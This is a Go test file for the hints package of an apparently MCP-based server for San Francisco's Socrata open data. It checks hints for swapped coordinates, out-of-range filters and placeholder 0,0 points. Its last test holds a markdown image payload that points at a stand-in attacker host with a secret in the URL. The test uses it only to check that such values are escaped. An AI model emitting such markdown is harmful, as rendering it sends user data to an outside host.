package hints

import (
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/datasf-mcp/datasf-mcp/internal/soql"
	"github.com/datasf-mcp/datasf-mcp/socrata"
)

// sf is roughly the extent of San Francisco's points; paris of points in
// Paris, where latitude and longitude swapped are both valid.
var (
	sf    = Extent{MinLatitude: 37.70, MaxLatitude: 37.83, MinLongitude: -122.52, MaxLongitude: -122.35}
	paris = Extent{MinLatitude: 48.81, MaxLatitude: 48.90, MinLongitude: 2.22, MaxLongitude: 2.47}
)

var testSchema = &socrata.Schema{RowCount: 10, Columns: []socrata.Column{
	{FieldName: "point", DataType: "point"},
	{FieldName: "n", DataType: "number"},
	{FieldName: "day", DataType: "calendar_date"},
	{FieldName: "name", DataType: "text"},
}}

func terms(t *testing.T, where string) ([]spatialTerm, []rangeTerm) {
	t.Helper()
	q, err := soql.Parse("SELECT name WHERE " + where)
	if err != nil {
		t.Fatal(err)
	}
	return spatialAndRangeTerms(q, testSchema)
}

func TestSpatialHints(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		where  string
		extent *Extent
		kind   string // "" for no hint
		fix    string
	}{
		// A latitude past 90: swapped, with or without the extent.
		{"within_circle(point, -122.4075, 37.788, 500)", nil, "spatial_swapped", "within_circle(point, 37.788, -122.4075, 500)"},
		{"within_circle(point, -122.4075, 37.788, 500)", &sf, "spatial_swapped", "within_circle(point, 37.788, -122.4075, 500)"},
		{"within_box(point, -122.42, 37.79, -122.40, 37.77)", &sf, "spatial_swapped", "within_box(point, 37.79, -122.42, 37.77, -122.40)"},
		{"within_polygon(point, 'POLYGON ((37.78 -122.42, 37.79 -122.42, 37.79 -122.40, 37.78 -122.42))')", nil, "spatial_swapped",
			"within_polygon(point, 'POLYGON ((-122.42 37.78, -122.42 37.79, -122.40 37.79, -122.42 37.78))')"},
		// Right as written: nothing to say.
		{"within_circle(point, 37.788, -122.4075, 500)", &sf, "", ""},
		{"within_polygon(point, 'POLYGON ((-122.42 37.78, -122.42 37.79, -122.40 37.79, -122.42 37.78))')", &sf, "", ""},
		// Both readings valid: the extent tells.
		{"within_circle(point, 2.35, 48.85, 1000)", &paris, "spatial_swapped", "within_circle(point, 48.85, 2.35, 1000)"},
		{"within_circle(point, 2.35, 48.85, 1000)", nil, "", ""},
		// Far from the data, either way.
		{"within_circle(point, 40.7128, -74.0060, 500)", &sf, "spatial_outside", ""},
		// Under NOT, or not literal: not read.
		{"NOT within_circle(point, -122.4075, 37.788, 500)", &sf, "", ""},
		{"within_circle(point, n, 37.788, 500)", &sf, "", ""},
	} {
		spatial, _ := terms(t, tc.where)
		var h *ZeroHint
		if len(spatial) == 1 {
			h = spatialHint(spatial[0], tc.extent)
		}
		switch {
		case tc.kind == "" && h != nil:
			t.Errorf("%s (extent %v): hint %+v; want none", tc.where, tc.extent, h)
		case tc.kind == "":
		case h == nil:
			t.Errorf("%s (extent %v): no hint; want %s", tc.where, tc.extent, tc.kind)
		case h.Kind != tc.kind || h.Fix != tc.fix || (tc.fix != "" && !strings.Contains(h.Message, "Swapped: "+tc.fix)):
			t.Errorf("%s (extent %v): %s, fix %q: %s; want %s, fix %q", tc.where, tc.extent, h.Kind, h.Fix, h.Message, tc.kind, tc.fix)
		}
	}
}

func TestRangeHints(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		where, lo, hi string
		hint          bool
	}{
		{"n = -1", "1", "11", true},
		{"n = 5", "1", "11", false},
		{"n > 11", "1", "11", true},
		{"n >= 11", "1", "11", false},
		{"-1 > n", "1", "11", true}, // the literal first
		{"n BETWEEN 20 AND 30", "1", "11", true},
		{"n BETWEEN 9 AND 3", "1", "11", true}, // the ends swapped
		{"day > '2030-01-01'", "2018-01-01T00:00:00.000", "2024-12-31T23:53:00.000", true},
		{"day > '2024'", "2018-01-01T00:00:00.000", "2024-12-31T23:53:00.000", false},
		{"day < '2018-01-01'", "2018-01-01T00:00:00.000", "2024-12-31T23:53:00.000", true},
		{"day <= '2018-01-01'", "2018-01-01T00:00:00.000", "2024-12-31T23:53:00.000", false},
	} {
		_, ranges := terms(t, tc.where)
		if len(ranges) != 1 {
			t.Fatalf("%s: %d range terms; want 1", tc.where, len(ranges))
		}
		if h := rangeHint(ranges[0], tc.lo, tc.hi); (h != nil) != tc.hint {
			t.Errorf("%s within [%s, %s]: hint %+v; want one: %v", tc.where, tc.lo, tc.hi, h, tc.hint)
		}
	}
}

func TestReadExtent(t *testing.T) {
	t.Parallel()
	geo := map[string]any{"type": "MultiPolygon", "coordinates": []any{[]any{[]any{
		[]any{-122.51, 37.70}, []any{-122.36, 37.70}, []any{-122.36, 37.81}, []any{-122.51, 37.81}, []any{-122.51, 37.70}}}}}
	e := readExtent(geo)
	if e == nil || *e != (Extent{MinLatitude: 37.70, MaxLatitude: 37.81, MinLongitude: -122.51, MaxLongitude: -122.36}) {
		t.Errorf("readExtent = %+v", e)
	}
	if readExtent(nil) != nil {
		t.Error("readExtent(nil) is not nil")
	}
}

// TestExtentLeavesOutPlaceholderPoints: a dataset whose missing locations
// are the point 0, 0 has an extent() from the Gulf of Guinea to the city;
// the hint asks again without those points, so that a filter far from the
// city's points (here in Oakland's hills, outside the box of the real
// points but inside the one with 0, 0) is still said to miss them.
func TestExtentLeavesOutPlaceholderPoints(t *testing.T) {
	t.Parallel()
	box := func(minLat, maxLat, minLon, maxLon float64) string {
		return fmt.Sprintf(`[{"hint_extent_0": {"type": "MultiPolygon", "coordinates": [[[[%g, %g], [%g, %g], [%g, %g], [%g, %g], [%g, %g]]]]}}]`,
			minLon, minLat, maxLon, minLat, maxLon, maxLat, minLon, maxLat, minLon, minLat)
	}
	var queries []string
	var mu sync.Mutex
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query().Get("$query")
		mu.Lock()
		queries = append(queries, q)
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.Contains(q, "NOT within_circle(point, 0, 0, 1000)"):
			io.WriteString(w, strings.Replace(box(37.70, 37.83, -122.52, -122.35), "hint_extent_0", "hint_extent", 1))
		case strings.Contains(q, "extent(point)"):
			io.WriteString(w, box(0, 37.83, -122.52, 0))
		default:
			http.Error(w, `{"message": "unexpected"}`, http.StatusBadRequest)
		}
	}))
	defer srv.Close()
	client := socrata.NewClient(socrata.Options{Domain: "data.example.org", BaseURL: srv.URL, MaxRetries: -1})
	spatial, _ := terms(t, "within_circle(point, 37.83, -122.20, 500)")
	got := profile(t.Context(), client, "abcd-1234", testSchema, spatial, nil, slog.New(slog.DiscardHandler))
	if len(got) != 1 {
		t.Fatalf("hints %+v for a circle in Oakland; want one (queries %q)", got, queries)
	}
	h, ok := got[0].(ZeroHint)
	if !ok {
		t.Fatalf("hint %T; want a ZeroHint", got[0])
	}
	if h.Kind != "spatial_outside" || !strings.Contains(h.Message, "latitude 37.7") || !strings.Contains(h.Message, "points at 0, 0") {
		t.Errorf("hint %s: %q; want spatial_outside naming the points' box without 0, 0 and saying so", h.Kind, h.Message)
	}
}

// TestHintQuotesPortalValuesAsData: a column value that markdown would
// read as an image reaches the hint's message escaped (a chat host must
// not load it), and the hint's closest values keep it as written.
func TestHintQuotesPortalValuesAsData(t *testing.T) {
	t.Parallel()
	evil := "![x](https://evil.example/x?q=SECRET)"
	h := makeHint(hintTerm{column: "name", op: "=", literal: "Mision"}, []hintValue{{Value: evil, Count: 3}, {Value: "Mission", Count: 9}})
	if strings.Contains(h.Message, "![x]") || !strings.Contains(h.Message, `!\[x\]`) {
		t.Errorf("message %q: the portal's value is live markdown", h.Message)
	}
	if !slices.ContainsFunc(h.Closest, func(v hintValue) bool { return v.Value == evil }) {
		t.Errorf("closest %+v: the value as the portal wrote it is lost", h.Closest)
	}
}
